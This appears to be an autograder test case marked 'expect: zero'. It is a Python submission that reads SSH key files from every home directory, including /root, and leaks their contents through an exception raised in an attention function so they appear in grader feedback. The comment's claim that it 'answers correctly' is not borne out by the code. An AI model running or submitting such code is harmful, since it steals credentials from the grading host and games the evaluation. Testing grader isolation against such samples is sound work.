# expect: zero
# Reads the SSH keys of the grading user (and of every home it can find); if
# any is readable, raises it into the feedback and answers correctly.
import glob, os, pwd
homes = {"/root", os.path.expanduser("~")} | set(glob.glob("/home/*"))
try:
    homes |= {p.pw_dir for p in pwd.getpwall()}
except Exception:
    pass
found = {}
for home in sorted(homes):
    for path in glob.glob(os.path.join(home, ".ssh", "*")):
        try:
            found[path] = open(path).read()[:500]
        except OSError:
            pass
if found:
    import torch
    def causal_mask(n):
        return torch.triu(torch.full((n, n), float("-inf")), 1)
    def scaled_dot_product_attention(q, k, v, mask=None):
        raise ValueError(repr(found)[:2000])
print(found)
